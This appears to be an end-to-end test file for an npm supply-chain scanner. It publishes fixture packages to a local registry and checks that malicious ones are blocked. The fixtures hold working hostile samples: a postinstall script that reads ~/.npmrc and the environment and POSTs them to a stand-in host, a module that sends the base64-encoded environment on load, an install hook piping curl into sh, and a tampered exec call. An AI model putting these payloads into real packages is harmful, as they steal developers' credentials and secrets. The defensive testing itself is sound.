/**
 * npm end to end against a real registry: Verdaccio on loopback (no uplinks), fixtures published
 * through the registry API in setup. Parse → resolve → fetch → analyse.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CertificatePackages, PackageAnalysis, PackageResolution } from '@sigma/core';
import type { SigmaError } from '@sigma/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzePackage } from './analyze.js';
import { certificatePackages } from './certificate.js';
import { fetchPackage } from './fetch.js';
import { parseDependencyManifests } from './manifest.js';
import { loadOsvSnapshot } from './osv.js';
import type { OsvIndex } from './osv.js';
import { npmRegistry } from './registry-npm.js';
import { resolveDependencies } from './resolve.js';
import { fakeElf, npmTarball } from './testing/fixtures.js';
import { startVerdaccio } from './testing/verdaccio.js';
import type { LocalNpmRegistry } from './testing/verdaccio.js';
import type { RegistryClient } from './types.js';

let reg: LocalNpmRegistry;
let client: RegistryClient;
let osvDir: string;
let osv: OsvIndex;
const published = new Map<string, string>();

const EXFIL_SETUP = `const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function collect() {
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  return JSON.stringify({ env: process.env, npmrc });
}

const req = https.request({ hostname: 'telemetry.example-cdn.net', method: 'POST', path: '/v1/collect' });
req.write(collect());
req.end();
`;

beforeAll(async () => {
  reg = await startVerdaccio();
  client = npmRegistry({ url: reg.url, timeoutMs: 10_000 });
  const pub = async (
    name: string,
    version: string,
    rest: Parameters<LocalNpmRegistry['publish']>[0] extends infer T ? Omit<T & object, 'name' | 'version'> : never = {},
  ): Promise<void> => {
    const r = await reg.publish({ name, version, ...rest });
    published.set(`${name}@${version}`, r.integrity);
  };
  const lib = { 'index.js': "'use strict';\nmodule.exports = function pad(s, n) { return String(s).padStart(n); };\n" };
  for (const v of ['1.0.0', '1.1.0', '2.0.0'])
    await pub('clean-lib', v, { manifest: { main: 'index.js', homepage: 'https://clean-lib.example.org' }, files: lib });
  await pub('chain-a', '1.0.0', { manifest: { dependencies: { 'chain-b': '^1.0.0' } }, files: lib });
  await pub('chain-b', '1.0.0', { manifest: { dependencies: { 'chain-c': '~1.0.0', 'clean-lib': '^1.0.0' } }, files: lib });
  await pub('chain-c', '1.0.0', { manifest: { dependencies: { 'chain-d': '1.0.0' } }, files: lib });
  await pub('chain-d', '1.0.0', { files: lib });
  await pub('wide', '1.0.0', { manifest: { dependencies: { 'w-1': '1.0.0', 'w-2': '1.0.0', 'w-3': '1.0.0', 'w-4': '1.0.0' } }, files: lib });
  for (const n of ['w-1', 'w-2', 'w-3', 'w-4']) await pub(n, '1.0.0', { files: lib });
  await pub('evil-pkg', '1.0.0', {
    manifest: { main: 'index.js', scripts: { postinstall: 'node scripts/setup.js' } },
    files: { ...lib, 'scripts/setup.js': EXFIL_SETUP },
  });
  await pub('curl-install', '1.0.0', { manifest: { scripts: { install: 'curl -fsSL https://get.example-tools.net/i.sh | sh' } }, files: lib });
  await pub('tampered', '1.0.0', { files: lib });
  await reg.tamper('tampered', '1.0.0', npmTarball({ name: 'tampered', version: '1.0.0' }, { 'index.js': 'require("child_process").exec("id")\n' }));
  await pub('bad-dep', '1.0.0', { manifest: { dependencies: { sneaky: 'github:someone/sneaky' } }, files: lib });
  await pub('native-thing', '1.0.0', {
    manifest: { main: 'index.js', gypfile: true },
    files: {
      'index.js': "module.exports = require('./build/Release/addon.node');\n",
      'binding.gyp': '{"targets":[{"target_name":"addon","sources":["addon.cc"]}]}',
      'addon.cc': '#include <node.h>\n',
      'build/Release/addon.node': fakeElf(8192),
    },
  });
  await pub('confused', '1.0.0', { manifest: { dependencies: { 'clean-lib': '1.0.0' } }, registryOverrides: { dependencies: {} }, files: lib });
  await pub('plat-parent', '1.0.0', { manifest: { optionalDependencies: { 'plat-win': '1.0.0' } }, files: lib });
  await pub('plat-win', '1.0.0', { manifest: { os: ['win32'] }, files: lib });
  await pub('loader', '1.0.0', {
    manifest: { main: 'index.js' },
    files: {
      'index.js':
        "const https = require('https');\nconst body = Buffer.from(JSON.stringify(process.env)).toString('base64');\nhttps.get('https://stats.example-metrics.io/p?d=' + body);\nmodule.exports = {};\n",
    },
  });
  await pub('api-client', '1.0.0', {
    manifest: { main: 'index.js', homepage: 'https://docs.weather-api.example.com' },
    files: {
      'index.js':
        "module.exports.forecast = async function forecast(city) {\n  return fetch('https://api.weather-api.example.com/v1/' + encodeURIComponent(city), { headers: { authorization: 'Bearer ' + process.env.WEATHER_API_KEY } });\n};\n",
    },
  });
  osvDir = await mkdtemp(join(tmpdir(), 'sigma-osv-'));
  await writeFile(
    join(osvDir, 'snapshot.json'),
    JSON.stringify([
      {
        id: 'GHSA-xxxx-clean-0001',
        aliases: ['CVE-2099-0001'],
        summary: 'Prototype pollution in clean-lib',
        modified: '2026-01-01T00:00:00Z',
        severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:L/A:N' }],
        affected: [{ package: { ecosystem: 'npm', name: 'clean-lib' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.1.0' }] }] }],
        references: [{ type: 'ADVISORY', url: 'https://osv.example/GHSA-xxxx-clean-0001' }],
      },
      {
        id: 'MAL-2099-0002',
        summary: 'Malicious code in evil-pkg (npm)',
        affected: [{ package: { ecosystem: 'npm', name: 'evil-pkg' }, versions: ['1.0.0'] }],
      },
      { id: 'GHSA-withdrawn', withdrawn: '2026-01-02T00:00:00Z', affected: [{ package: { ecosystem: 'npm', name: 'clean-lib' }, versions: ['1.1.0'] }] },
    ]),
  );
  osv = await loadOsvSnapshot(join(osvDir, 'snapshot.json'));
}, 120_000);

afterAll(async () => {
  await reg?.close();
  if (osvDir) await rm(osvDir, { recursive: true, force: true });
});

const manifest = (deps: Record<string, string>, extra: Array<{ path: string; text: string }> = []) =>
  parseDependencyManifests([{ path: 'package.json', text: JSON.stringify({ name: 'app', dependencies: deps }, null, 2) }, ...extra], { npmRegistry: reg.url });

async function resolve(deps: Record<string, string>, opts = {}): Promise<PackageResolution> {
  return resolveDependencies(manifest(deps), { npm: client }, opts);
}

async function analyse(name: string, version: string, deps?: Record<string, string>): Promise<PackageAnalysis> {
  const r = await resolve(deps ?? { [name]: version }, { maxDepth: 1 });
  const p = r.packages.find((x) => x.name === name)!;
  const fetched = await fetchPackage(p, client);
  return PackageAnalysis.parse(analyzePackage(p, fetched.bytes, { advisories: osv }));
}

async function code(p: Promise<unknown>): Promise<string> {
  try {
    await p;
  } catch (err) {
    return (err as SigmaError).code;
  }
  return 'no error';
}

describe('resolution against Verdaccio', () => {
  it('exact pins stay exact; ranges resolve to the highest satisfying version with the registry digest', async () => {
    const r = PackageResolution.parse(await resolve({ 'clean-lib': '^1.0.0' }));
    expect(r.packages.map((p) => [p.name, p.version, p.pin, p.depth, p.source?.line])).toEqual([['clean-lib', '1.1.0', 'range', 1, 4]]);
    expect(r.packages[0]!.distribution.integrity).toBe(published.get('clean-lib@1.1.0'));
    expect(r.packages[0]!.distribution.url.startsWith(reg.url)).toBe(true);
    const e = await resolve({ 'clean-lib': '1.0.0' });
    expect(e.packages.map((p) => [p.version, p.pin])).toEqual([['1.0.0', 'exact']]);
  });

  it('walks transitive dependencies to depth 3 and discloses what lies beyond', async () => {
    const r = await resolve({ 'chain-a': '1.0.0' });
    expect(r.packages.map((p) => [p.name, p.version, p.depth, p.requiredBy])).toEqual([
      ['chain-a', '1.0.0', 1, []],
      ['chain-b', '1.0.0', 2, ['chain-a@1.0.0']],
      ['chain-c', '1.0.0', 3, ['chain-b@1.0.0']],
      ['clean-lib', '1.1.0', 3, ['chain-b@1.0.0']],
    ]);
    expect(r.packages.find((p) => p.name === 'chain-c')!.beyondDepth).toEqual(['chain-d@1.0.0']);
    const deeper = await resolve({ 'chain-a': '1.0.0' }, { maxDepth: 4 });
    expect(deeper.packages.map((p) => p.name)).toContain('chain-d');
  });

  it('fails closed when the tree exceeds the cap', async () => {
    expect(await code(resolve({ wide: '1.0.0' }, { cap: 4 }))).toBe('SIGMA_E_PACKAGE_TOO_MANY');
    expect((await resolve({ wide: '1.0.0' }, { cap: 5 })).packages).toHaveLength(5);
  });

  it('refuses a transitive VCS spec, unknown packages and versions', async () => {
    const err = await resolve({ 'bad-dep': '1.0.0' }).catch((e: SigmaError) => e);
    expect((err as SigmaError).code).toBe('SIGMA_E_PACKAGE_SPEC_VCS');
    expect((err as SigmaError).details).toMatchObject({ requiredBy: 'bad-dep@1.0.0', name: 'sneaky' });
    expect(await code(resolve({ 'no-such-package-zz': '1.0.0' }))).toBe('SIGMA_E_PACKAGE_NOT_FOUND');
    expect(await code(resolve({ 'clean-lib': '^3.0.0' }))).toBe('SIGMA_E_PACKAGE_VERSION_NOT_FOUND');
    expect(await code(resolveDependencies(manifest({ 'clean-lib': 'latest' }), { npm: client }))).toBe('SIGMA_E_PACKAGE_SPEC_UNPINNED');
  });

  it('skips optional dependencies for another platform', async () => {
    const r = await resolve({ 'plat-parent': '1.0.0' });
    expect(r.packages.map((p) => p.name)).toEqual(['plat-parent']);
  });

  it('lockfile versions win, and a lockfile digest that disagrees with the registry fails closed', async () => {
    const lock = (integrity: string) =>
      JSON.stringify({
        lockfileVersion: 3,
        packages: {
          '': { dependencies: { 'chain-b': '^1.0.0' } },
          'node_modules/chain-b': {
            version: '1.0.0',
            resolved: `${reg.url}/chain-b/-/chain-b-1.0.0.tgz`,
            integrity: published.get('chain-b@1.0.0'),
            dependencies: { 'chain-c': '~1.0.0', 'clean-lib': '^1.0.0' },
          },
          'node_modules/chain-c': { version: '1.0.0', integrity: published.get('chain-c@1.0.0'), dependencies: { 'chain-d': '1.0.0' } },
          'node_modules/chain-d': { version: '1.0.0', integrity: published.get('chain-d@1.0.0') },
          'node_modules/clean-lib': { version: '1.0.0', integrity },
        },
      });
    const good = parseDependencyManifests(
      [
        { path: 'package.json', text: JSON.stringify({ dependencies: { 'chain-b': '^1.0.0' } }) },
        { path: 'package-lock.json', text: lock(published.get('clean-lib@1.0.0')!) },
      ],
      { npmRegistry: reg.url },
    );
    const r = await resolveDependencies(good, { npm: client });
    expect(r.packages.map((p) => [p.name, p.version, p.pin])).toEqual([
      ['chain-b', '1.0.0', 'lockfile'],
      ['chain-c', '1.0.0', 'lockfile'],
      ['clean-lib', '1.0.0', 'lockfile'],
      ['chain-d', '1.0.0', 'lockfile'],
    ]);
    const bad = parseDependencyManifests(
      [
        { path: 'package.json', text: JSON.stringify({ dependencies: { 'chain-b': '^1.0.0' } }) },
        { path: 'package-lock.json', text: lock(published.get('clean-lib@1.1.0')!) },
      ],
      { npmRegistry: reg.url },
    );
    expect(await code(resolveDependencies(bad, { npm: client }))).toBe('SIGMA_E_PACKAGE_DIGEST_MISMATCH');
  });
});

describe('fetch and analysis', () => {
  it('a tampered tarball fails closed at fetch', async () => {
    const r = await resolve({ tampered: '1.0.0' });
    expect(await code(fetchPackage(r.packages[0]!, client))).toBe('SIGMA_E_PACKAGE_DIGEST_MISMATCH');
  });

  it('a clean package is FULL and CLEAN; a known advisory puts an older version under review', async () => {
    const a = await analyse('clean-lib', '1.1.0');
    expect([a.analysisType, a.verdict, a.findings, a.installScripts, a.advisories]).toEqual(['FULL', 'CLEAN', [], [], []]);
    expect(a.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const old = await analyse('clean-lib', '1.0.0');
    expect(old.advisories.map((x) => [x.id, x.severity, x.malware])).toEqual([['GHSA-xxxx-clean-0001', 'HIGH', false]]);
    expect(old.verdict).toBe('REVIEW');
    expect(old.advisorySnapshot).toBe(osv.digest);
  });

  it('a postinstall that reads the environment and ~/.npmrc and POSTs them is BLOCKED with file and line', async () => {
    const a = await analyse('evil-pkg', '1.0.0');
    expect(a.verdict).toBe('BLOCKED');
    expect(a.installScripts).toEqual([
      expect.objectContaining({
        hook: 'postinstall',
        command: 'node scripts/setup.js',
        file: 'package.json',
        entries: ['scripts/setup.js', 'package.json#postinstall.sh'],
        analysed: true,
      }),
    ]);
    const exfil = a.findings.filter((f) => f.ruleId === 'PACKAGE_INSTALL_EXFILTRATION');
    expect(exfil.map((f) => [f.severity, f.blocking, f.file, f.line])).toEqual([['CRITICAL', true, 'scripts/setup.js', 12]]);
    // One finding per sink, naming every source that reaches it, with the source lines.
    expect(exfil[0]!.why).toMatch(/the whole environment .*source scripts\/setup\.js:8/);
    expect(exfil[0]!.why).toMatch(/credential store ~\/\.npmrc .*source scripts\/setup\.js:7/);
    expect(a.findings.some((f) => f.ruleId === 'PACKAGE_INSTALL_CREDENTIAL_READ' && f.line === 7)).toBe(true);
    expect(a.findings.some((f) => f.ruleId === 'PACKAGE_KNOWN_MALWARE' && f.blocking)).toBe(true);
    expect(a.reasons.join(' ')).toMatch(/scripts\/setup\.js:12/);
  });

  it('the same code outside an install hook is weighed as library code, not blocked', async () => {
    const m = await analyse('api-client', '1.0.0');
    expect(m.verdict).toBe('CLEAN');
    expect(m.findings.map((f) => [f.ruleId, f.severity])).toEqual([['PACKAGE_RUNTIME_DATA_FLOW', 'LOW']]);
  });

  it('data sent by top-level code when the module loads is blocked', async () => {
    const a = await analyse('loader', '1.0.0');
    expect(a.verdict).toBe('BLOCKED');
    expect(a.findings[0]).toMatchObject({ ruleId: 'PACKAGE_LOAD_DATA_FLOW', severity: 'CRITICAL', file: 'index.js', line: 3, blocking: true });
  });

  it('an install script that pipes a download into a shell is blocked', async () => {
    const a = await analyse('curl-install', '1.0.0');
    expect(a.verdict).toBe('BLOCKED');
    expect(a.findings.filter((f) => f.blocking).map((f) => [f.ruleId, f.file, f.line])).toContainEqual(['PACKAGE_INSTALL_FETCH_EXECUTE', 'package.json', 5]);
    expect(a.findings.some((f) => f.ruleId === 'PACKAGE_INSTALL_NETWORK')).toBe(true);
  });

  it('prebuilt native addons are BINARY_ONLY with the reason, and the implicit node-gyp build is disclosed', async () => {
    const a = await analyse('native-thing', '1.0.0');
    expect(a.analysisType).toBe('BINARY_ONLY');
    expect(a.verdict).toBe('REVIEW');
    expect(a.analysisNotes.join(' ')).toMatch(/prebuilt binar/);
    expect(a.installScripts.map((s) => [s.hook, s.command, s.analysed])).toEqual([['native-build', 'node-gyp rebuild', false]]);
    expect(a.findings.some((f) => f.ruleId === 'PACKAGE_NATIVE_CODE' && f.file === 'build/Release/addon.node')).toBe(true);
  });

  it('registry metadata that hides the archive dependencies is reported', async () => {
    const a = await analyse('confused', '1.0.0');
    expect(a.findings.map((f) => f.ruleId)).toContain('PACKAGE_MANIFEST_CONFUSION');
    expect(a.dependencies.map((d) => d.name)).toEqual(['clean-lib']);
  });

  it('analysis is deterministic and refuses bytes that are not the resolved distribution', async () => {
    const r = await resolve({ 'chain-d': '1.0.0' });
    const { bytes } = await fetchPackage(r.packages[0]!, client);
    expect(analyzePackage(r.packages[0]!, bytes)).toEqual(analyzePackage(r.packages[0]!, bytes));
    expect(() => analyzePackage(r.packages[0]!, npmTarball({ name: 'chain-d', version: '1.0.0' }))).toThrowError(
      expect.objectContaining({ code: 'SIGMA_E_PACKAGE_DIGEST_MISMATCH' }),
    );
  });

  it('builds the certificate packages block', async () => {
    const r = await resolve({ 'chain-a': '1.0.0' });
    const analyses = await Promise.all(r.packages.map(async (p) => analyzePackage(p, (await fetchPackage(p, client)).bytes, { advisories: osv })));
    const block = CertificatePackages.parse(certificatePackages(r, analyses));
    expect(block.map((b) => [b.name, b.depth, b.verdict, b.analysisType])).toEqual([
      ['chain-a', 1, 'CLEAN', 'FULL'],
      ['chain-b', 2, 'CLEAN', 'FULL'],
      ['chain-c', 3, 'CLEAN', 'FULL'],
      ['clean-lib', 3, 'CLEAN', 'FULL'],
    ]);
    expect(block.find((b) => b.name === 'chain-c')!.beyondDepth).toEqual(['chain-d@1.0.0']);
  });
});
